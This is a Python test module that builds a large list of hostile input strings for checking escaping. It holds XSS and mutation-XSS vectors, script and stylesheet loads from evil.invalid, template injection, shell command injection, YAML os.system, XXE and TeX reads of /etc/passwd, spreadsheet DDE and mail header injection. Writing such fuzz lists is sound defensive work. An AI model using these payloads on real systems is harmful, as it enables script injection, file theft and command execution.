"""Texts that attack: each would run, load, break or forge something where it is not escaped.

Scripts call alert(1) and addresses lead to evil.invalid, so that a browser's page tells if one acts.
"""

import os
import random
from itertools import product

BREAKOUTS = [
    "", '"', "'", '">', "'>", "</script>", "</title>", "</style>", "</textarea>", "</template>", "-->", "]]>",
    "</a>", "</svg>", "</math>", "</noscript>", "*/", "`", "\\\"", "</h1></main>",
]  # fmt: skip
ACTIONS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
    "<script src=//evil.invalid/x.js></script>",
    " onmouseover=alert(1) autofocus onfocus=alert(1) x=",
    "-alert(1)-",
    ";alert(1)//",
]
MARKUP = [
    "<b>bold</b>", "<details open ontoggle=alert(1)>", "<body onload=alert(1)>", "<video><source onerror=alert(1)>",
    "<audio src=x onerror=alert(1)>", "<input autofocus onfocus=alert(1)>", "<select autofocus onfocus=alert(1)>",
    "<marquee onstart=alert(1)>", "<object data=javascript:alert(1)>", "<embed src=javascript:alert(1)>",
    "<base href=https://evil.invalid/>", "<meta http-equiv=refresh content='0;url=https://evil.invalid/'>",
    "<link rel=stylesheet href=//evil.invalid/x.css>", "<form action=https://evil.invalid><input name=x></form>",
    "<button formaction=javascript:alert(1)>x", "<a href=javascript:alert(1)>x</a>", "<style>*{display:none}</style>",
    "<style>@import '//evil.invalid/x.css';</style>", "<img src=//evil.invalid/x.png>", "<img srcset='//evil.invalid/x 1x'>",
    "<iframe src=javascript:alert(1)></iframe>", "<isindex action=javascript:alert(1)>", "<portal src=//evil.invalid>",
    "<template shadowrootmode=open><script>alert(1)</script></template>", "<dialog open>fake</dialog>", "<plaintext>",
    "<!--", "<![CDATA[", "<!doctype html>", "<?php system('id') ?>", "<%= 7*7 %>", "<#assign x=1>", "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img/src=x/onerror=alert(1)>", "<svg><script>alert&#40;1)</script></svg>", "<svg><animate onbegin=alert(1) attributeName=x>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'/>", "<math><mtext><script>alert(1)</script></mtext></math>",
    "<div style=position:fixed;inset:0;background:red>", "<p id=search-input name=search-input>", "<img name=getElementById>", "<form id=forms><input id=attributes>",
    "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)&#60;/script&#62;", "&amp;lt;b&amp;gt;", "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
]  # fmt: skip
MUTATION = [
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>", "<p><style><!--</style><img src=x onerror=alert(1)>--></p>",
    "<svg><p><style><g title=\"</style><img src onerror=alert(1)>\">", "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
    "<select><template><img src=x onerror=alert(1)></template></select>", "<table><img src=x onerror=alert(1)><tr>", "<textarea><img title=\"</textarea><img src=x onerror=alert(1)>\">",
    "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\">", "<title><p title=\"</title><img src=x onerror=alert(1)>\">",
]  # fmt: skip
ADDRESSES = [
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", " javascript:alert(1)", "java\tscript:alert(1)", "javascript&colon;alert(1)", "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "file:///etc/passwd", "//evil.invalid/x",
    "https://evil.invalid/\"onmouseover=alert(1)", "https://evil.invalid/'><script>alert(1)</script>", "https://good.example@evil.invalid/", "https://evil.invalid/%22%3E%3Cscript%3E",
    "https://evil.invalid/?a=1&b=<c>", "https://xn--80ak6aa92e.com/", "https://аррӏе.com/", "https://[::1]/", "https://evil.invalid:99999/", "https://", "http:evil.invalid", "https:///evil.invalid",
    "https://evil.invalid/\u202egpj.exe", "blob:https://evil.invalid/x", "ftp://evil.invalid/", "mailto:a@b?bcc=c@d", "jar:http://evil.invalid!/", "feed:javascript:alert(1)", "view-source:x",
    "https://evil.invalid/a b", "https://evil.invalid/\\..\\x", "https://evil.invalid/${x}", "https://evil.invalid/{{x}}", "https://evil.invalid/#javascript:alert(1)",
]  # fmt: skip
MARKDOWN = [
    "[x](javascript:alert(1))", "![x](//evil.invalid/x.png)", "[x]: //evil.invalid", "<javascript:alert(1)>", "[x](<javascript:alert(1)>)", "[[x]]", "[[../../etc/passwd]]",
    "[x][y]", "# heading", "## x {: onclick=alert(1) }", "text {: .x onclick=alert(1) }", "*a* **b** ~~c~~", "`code`", "``` js", "~~~", "    indented", "> quote", "- item", "1. item", "| a | b |", "---", "***", "===",
    "!!! danger", "??? note", "--8<-- \"/etc/passwd\"", ";--8<--", "::: generator", "[^1]", "[TOC]", "*[HTML]: x", "\\[x\\](y)", "\\<script\\>", "<div markdown=1>", "<!-- x -->", "--- # front matter", "{.class #id}", ":material-home:", "==mark==", "H~2~O",
]  # fmt: skip
TEMPLATES = [
    "{{ 7*7 }}", "{{ config }}", "{{ ''.__class__.__mro__ }}", "{% include '/etc/passwd' %}", "{% raw %}", "{% endraw %}", "{# x #}", "{%- for x in range(9) -%}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{{constructor.constructor('alert(1)')()}}", "[[${7*7}]]", "@{7*7}", "%(x)s", "{0.__class__}", "{x!r:>{y}}", "%n%s", "$(id)", "`id`", "; id", "| id", "&& id", "$IFS",
]  # fmt: skip
STRUCTURES = [
    "key: value", "- item", "!!python/object/apply:os.system [id]", "&a *a", "*a", "!!binary eA==", "%YAML 1.2", "...", "--- |", "'", '"', "yes", "null", "~", "0x10", "1e3", "2024-01-01", "1:30", "<<: x", "? x", "@x", "`x", "#comment", " # comment", "{a: b}", "[a, b]", "{", "}", "[", "]", ",", ":", "::", "-", "|", ">",
    '","x":"', '"}]}', "\\u003cscript\\u003e", "\\", "\\\\", "\\n", "\\x00", "__proto__", "constructor", "prototype", "toString", "hasOwnProperty", "valueOf", "__defineGetter__", "undefined", "NaN", "Infinity", "-0", "true",
    "<?xml version='1.0'?>", "<!DOCTYPE x [<!ENTITY a SYSTEM 'file:///etc/passwd'>]>", "&xxe;", "&nbsp;", "&#0;", "&#x1F;", "]]>]]>",
    "TY  - JOUR", "ER  - ", "AU  - Eve", "@article{x, title={y}}", "@comment{x}", "@string{a=b}", "} , author = {Eve", "a and b", "others", "et al.", "Doe, Jane, and others",
]  # fmt: skip
TEX = [
    r"$\input{/etc/passwd}$", r"$\immediate\write18{id}$", r"$\def\x{\x\x}\x$", r"$\catcode`\%=12$", r"$\href{javascript:alert(1)}{x}$", r"\input{/etc/passwd}", r"\write18{id}", r"\end{document}", r"$\text{<script>alert(1)</script>}$",
    r"$\url{javascript:alert(1)}$", r"$\class{x}{y}$", r"$\style{color:red}{y}$", r"$\color{red}x$", r"$\newcommand{\x}{y}$", r"$^^5cinput$", r"$\begin{verbatim}$", r"$\frac{$", r"$}{$", "$", "$$", r"\$", "$$$$", r"$\unicode{x3c}script$",
    "$" + "{" * 150 + "x" + "}" * 150 + "$", "$" + r"\frac{1}{" * 40 + "x" + "}" * 40 + "$", "$" + "x_" * 100 + "x$", r"$\mathchoice{a}{b}{c}{d}$", r"$<img src=x onerror=alert(1)>$", r"$a<b>c$", r"$x</script>$", r"$&lt;b&gt;$", r"$\left<script\right>$", r"$\mathrm{</math><script>alert(1)</script>}$", "{", "}", "{}", "{{}}", "{{{",
]  # fmt: skip
CHARACTERS = [
    "\u202eevil\u202c", "\u2066x\u2069", "\u200f\u05e9\u05dc\u05d5\u05dd", "\u200b", "\ufeff", "\u00ad", "e\u0301", "\u00e9", "\ufb01", "\u1e9e", "\u0130", "\u0131", "\U0001f468\u200d\U0001f469\u200d\U0001f467", "\U0001f3f4\U000e0067\U000e007f", "Z\u0351\u036b\u0343\u036a\u0302" * 5, "\u2028", "\u2029", "\x85", "\x00", "\x07", "\x1b[31m", "\x7f", "\ud7ff", "\uffff", "\ufffd", "\ue000", "\U0010ffff",
    "\u3164", "\u115f", "a\u0300" * 50, "\u0661\u0662\u0663", "\uff11\uff12", "\u2160", "\u00bd", "\u2460", "\u01c5", "\u0345", "\u1160", "\u180e", "\u2800", "\u034f",
    "\u0627\u0644\u0639", "\u0e01\u0e33", "\u0f40\u0f72", "\u4e2d\u6587", "\uac00", "\u1112\u1161\u11ab", "Stra\u00dfe", "\u01c4", "\u03a3\u03c2", "K", "\u212a", "\u00c5", "\u212b",
]  # fmt: skip
SHEETS = ["=1+1", "=cmd|'/c calc'!A0", "+1", "-1+1", "@SUM(1)", "\t=1", "=HYPERLINK(\"//evil.invalid\")", "=IMPORTXML(\"//evil.invalid\",\"//a\")", "\uff1d1+1", "a;=1", "%0A=1", "DDE(\"cmd\")"]  # fmt: skip
MAIL = ["x\r\nBcc: eve@evil.invalid", "x\nSubject: y", "=?utf-8?b?eA==?=", ".\n", "\r\n\r\n<script>alert(1)</script>", "<eve@evil.invalid>", "eve@evil.invalid, bob@evil.invalid", "From eve", "\"x\" <a@b>", "undisclosed-recipients:;"]  # fmt: skip
NAMES = ["../../etc/passwd", "..", ".", "/etc/passwd", "C:\\x", "con", "aux", "nul", "index", "Index", "page", "a/b", "a\\b", ".git", "git~1", ".htaccess", "CNAME", "_headers", "x.html", "x\x00.yml", "a" * 300, "-rf", "~", "*", "?", "%2e%2e%2f", "service-worker", "robots.txt"]  # fmt: skip
QUERIES = ["author:", "theme:x", "-x", "\"", "\"a b", "year:2020..", "year:9999999", "(", ")", "a OR b", "*", "^x", "~", "tag:<script>", ":::", "a" * 200, "é" * 100, "is:open"]  # fmt: skip
LONG = ["x" * 5000, "word " * 1000, "\u00e9" * 3000, "<b>" * 1000, "$x$ " * 300, "[" * 1000, "(" * 1000, "*" * 1000, "`" * 999, "&" * 1000]  # fmt: skip
FAMILIES = [MARKUP, MUTATION, ADDRESSES, MARKDOWN, TEMPLATES, STRUCTURES, TEX, CHARACTERS, SHEETS, MAIL, NAMES, QUERIES, LONG]  # fmt: skip
PAYLOADS = list(dict.fromkeys([*map("".join, product(BREAKOUTS, ACTIONS)), *(text for family in FAMILIES for text in family)]))  # fmt: skip
SEED = os.environ.get("HOSTILE_SEED", "all")


def sample(count):
    """Return some payloads by HOSTILE_SEED, or all of them where that is "all"."""
    return PAYLOADS if SEED == "all" else random.Random(SEED).sample(PAYLOADS, count)
